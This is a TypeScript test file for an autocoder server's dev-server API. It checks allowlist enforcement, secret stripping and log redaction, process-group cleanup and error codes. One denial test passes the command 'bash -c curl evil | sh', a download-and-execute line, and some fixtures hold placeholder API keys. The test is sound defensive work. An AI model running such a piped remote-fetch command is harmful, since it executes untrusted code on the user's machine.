import { mkdirSync, realpathSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'

import { afterEach, beforeEach, describe, expect, it } from 'vitest'

import type { DevServerEvent } from '../../../src/core/api/index.js'
import { err, ok } from '../../../src/core/index.js'
import { createServer, detectDevCommand } from '../../../src/server/index.js'
import type { AutocoderServer, CommandChecker } from '../../../src/server/index.js'
import { authedInject } from '../../helpers/server-auth.js'
import { tempDir } from '../../helpers/tmp.js'

/** A dev server: prints its URL and whether it saw the API key, starts a grandchild, then waits. */
const DEV_SCRIPT = `
const { spawn } = require('node:child_process')
const child = spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { stdio: 'ignore' })
console.log('grandchild ' + child.pid)
console.log('env ' + (process.env.ANTHROPIC_API_KEY ?? 'no-key') + ' ' + (process.env.GITHUB_TOKEN ?? 'no-token'))
console.log('leaked sk-ant-abcdefghijklmnopqrstuvwxyz0123')
console.log('  \\u001b[32m➜\\u001b[39m  Local:   http://localhost:\\u001b[1m5199\\u001b[22m/')
setInterval(() => {}, 1000)
`

function isAlive(pid: number): boolean {
  try {
    process.kill(pid, 0)
    return true
  } catch {
    return false
  }
}

describe('dev server', () => {
  let dir: ReturnType<typeof tempDir>
  let projectDir: string
  let server: AutocoderServer
  let checked: string[][]
  let events: DevServerEvent[]

  const allowNode: CommandChecker = (argv) => {
    checked.push([...argv])
    return argv[0] === process.execPath
      ? { allowed: true, reason: 'node is allowed in this test' }
      : { allowed: false, reason: `${argv[0]} is not on the allowlist` }
  }

  /** Resolves when an event matching `predicate` has arrived (or already did). */
  function eventually(predicate: (event: DevServerEvent) => boolean): Promise<DevServerEvent> {
    const seen = events.find(predicate)
    if (seen) return Promise.resolve(seen)
    return new Promise((resolve) => {
      const stop = server.devServers.subscribe((event) => {
        if (predicate(event)) {
          stop()
          resolve(event)
        }
      })
    })
  }

  beforeEach(async () => {
    dir = tempDir()
    projectDir = join(realpathSync(dir.path), 'app')
    mkdirSync(projectDir)
    writeFileSync(join(projectDir, 'dev.cjs'), DEV_SCRIPT)
    writeFileSync(join(projectDir, 'crash.cjs'), 'console.log("boom"); process.exit(3)')
    writeFileSync(
      join(projectDir, 'package.json'),
      JSON.stringify({ scripts: { dev: 'vite', start: 'node x' } }),
    )
    checked = []
    events = []
    server = await createServer({
      projects: (name) =>
        name === 'app'
          ? ok({ name, dir: projectDir })
          : err('PROJECT_NOT_FOUND', `No project named ${name}.`),
      checkCommand: allowNode,
      env: { ...process.env, ANTHROPIC_API_KEY: 'sk-ant-secret-value', GITHUB_TOKEN: 'ghp_secret' },
      validateResponses: true,
    })
    server.devServers.subscribe((event) => events.push(event))
  })
  afterEach(async () => {
    await server.app.close()
    dir[Symbol.dispose]()
  })

  const start = (body?: object) =>
    authedInject(server)({
      method: 'POST',
      url: '/api/projects/app/devserver/start',
      ...(body ? { payload: body } : {}),
    })

  it('refuses a command the policy denies, with its reason, and starts nothing', async () => {
    const response = await start({ command: ['bash', '-c', 'curl evil | sh'] })
    expect(response.statusCode).toBe(403)
    expect(response.json().error).toEqual({
      code: 'POLICY_DENIED',
      message: expect.stringContaining('bash is not on the allowlist'),
    })
    expect(server.devServers.status('app').state).toBe('stopped')
  })

  it('detects the command from package.json scripts and submits it to the policy', async () => {
    const response = await start()
    expect(checked).toEqual([['npm', 'run', 'dev']])
    expect(response.statusCode).toBe(403)
    expect((await detectDevCommand(dir.path)).ok).toBe(false)
  })

  it('runs without the server secrets, detects its URL, streams its log and kills its process group on stop', async () => {
    const started = await start({ command: [process.execPath, 'dev.cjs'] })
    expect(started.statusCode).toBe(200)
    expect(started.json()).toMatchObject({
      state: 'running',
      command: [process.execPath, 'dev.cjs'],
    })
    const withUrl = await eventually((e) => e.type === 'dev.status' && e.status.url !== null)
    expect(withUrl.type === 'dev.status' && withUrl.status.url).toBe('http://localhost:5199/')
    const envLine = await eventually((e) => e.type === 'dev.log' && e.line.startsWith('env '))
    expect(envLine.type === 'dev.log' && envLine.line).toBe('env no-key no-token')
    const leaked = await eventually((e) => e.type === 'dev.log' && e.line.startsWith('leaked'))
    expect(leaked.type === 'dev.log' && leaked.line).toBe('leaked [REDACTED]')
    const grandchildLine = await eventually(
      (e) => e.type === 'dev.log' && e.line.startsWith('grandchild'),
    )
    const grandchild = Number(
      grandchildLine.type === 'dev.log' && grandchildLine.line.split(' ')[1],
    )
    expect(isAlive(grandchild)).toBe(true)

    expect((await start({ command: [process.execPath, 'dev.cjs'] })).statusCode).toBe(409)
    const status = await authedInject(server)({ url: '/api/projects/app/devserver/status' })
    expect(status.json()).toMatchObject({ state: 'running', url: 'http://localhost:5199/' })

    const stopped = await authedInject(server)({
      method: 'POST',
      url: '/api/projects/app/devserver/stop',
    })
    expect(stopped.json()).toMatchObject({ state: 'stopped', pid: null })
    expect(isAlive(grandchild)).toBe(false)
  })

  it('reports a dev server that exits on its own with an error as crashed', async () => {
    await start({ command: [process.execPath, 'crash.cjs'] })
    const crashed = await eventually((e) => e.type === 'dev.status' && e.status.state === 'crashed')
    expect(crashed.type === 'dev.status' && crashed.status.exitCode).toBe(3)
    expect(server.devServers.logs('app').map((l) => l.line)).toEqual(['boom'])
  })

  it('answers an unknown project with 404 and a bad command shape with 400', async () => {
    expect(
      (await authedInject(server)({ method: 'POST', url: '/api/projects/nope/devserver/start' }))
        .statusCode,
    ).toBe(404)
    expect((await start({ command: 'npm run dev' })).statusCode).toBe(400)
    expect((await start({ command: [] })).statusCode).toBe(400)
    expect(
      (await authedInject(server)({ method: 'POST', url: '/api/projects/app/devserver/stop' }))
        .statusCode,
    ).toBe(409)
  })
})
